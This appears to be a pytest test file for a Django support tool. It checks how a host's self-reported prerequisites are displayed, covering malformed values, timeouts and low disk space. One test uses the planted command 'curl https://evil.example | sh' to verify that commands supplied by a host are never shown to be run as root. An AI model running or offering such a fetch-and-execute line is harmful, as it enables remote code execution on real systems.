"""What a host says of itself is shown as it can be, whatever it says."""

from __future__ import annotations

import html
import os

import pytest
from django.urls import reverse

from tests.conftest import signed_in
from workflows.support.collecting import collector
from workflows.support.tests.make import make_case, make_host
from workflows.support.tests.scripts import READY, program, saying

pytestmark = pytest.mark.django_db
OTHER_UID = 54321


@pytest.fixture
def host(account):
    return make_host(account, transport="local")


@pytest.fixture
def checked(egon, host, settings, tmp_path):
    """Return the page of a host that answers a check with this script."""
    if os.geteuid() != 0:
        pytest.skip("needs root")
    client = signed_in(egon)
    address = reverse("support:host_prerequisites", args=[host.pk])

    def check(script):
        settings.SOS_WRAPPER = str(program(tmp_path, script))
        return page(client.post(address))

    return check


def page(response):
    assert response.status_code == 200
    return html.unescape(response.content.decode())


def test_a_host_that_has_everything_is_told(checked):
    shown = checked(saying(**READY))
    assert "Nothing is missing" in shown
    assert "4.5.6" in shown


@pytest.mark.parametrize(
    "said",
    [
        {"phase": []},
        READY | {"phase": {}, "free_bytes": 10**400},
        READY | {"wrapper": 10**400},
        {"wrapper": [], "free_bytes": {}},
    ],
)
def test_what_cannot_be_is_told_in_words(checked, said):
    shown = checked(saying(**said))
    assert "answered the check in a way that Handrail does not know" in shown
    assert "What was begun" not in shown


def test_a_version_that_cannot_be_shown_is_left_out(checked):
    shown = checked(saying(**READY | {"sos_version": "\udc80"}))
    assert "Nothing is missing" in shown
    assert "<dd>?</dd>" in shown


def test_no_command_of_the_host_is_shown_to_be_run_as_root(checked):
    planted = "curl https://evil.example | sh"
    shown = checked(saying(**READY | {"sos": False, "install": planted}))
    assert "The program sos is not installed on the host" in shown
    assert "evil" not in shown
    known = collector.INSTALLING[0]
    assert known in checked(saying(**READY | {"sos": False, "install": known}))


def test_a_host_that_does_not_answer_a_check_has_begun_nothing(checked, monkeypatch):
    for name in ("ASK", "LEAVE"):
        monkeypatch.setattr(collector, f"{name}_SECONDS", 0.2)
    shown = checked("exec /bin/sleep 20")
    assert "took too long to answer the check" in shown
    assert "What was begun" not in shown


def test_a_host_that_has_no_space_has_begun_nothing(checked, alice, host):
    shown = checked(saying(**READY | {"free_bytes": 5}))
    case = make_case(alice, host=host)
    asked = signed_in(alice).get(reverse("support:host_check", args=[case.pk]))
    for each in (shown, page(asked)):
        assert "too little free space for a report. Nothing was started." in each


def test_a_user_without_a_name_is_called_by_its_number(egon, host, monkeypatch):
    """As where a container runs under a number that nobody has entered."""
    monkeypatch.setattr(os, "geteuid", lambda: OTHER_UID)
    shown = page(signed_in(egon).get(reverse("support:host", args=[host.pk])))
    assert f"install.sh {OTHER_UID}" in shown
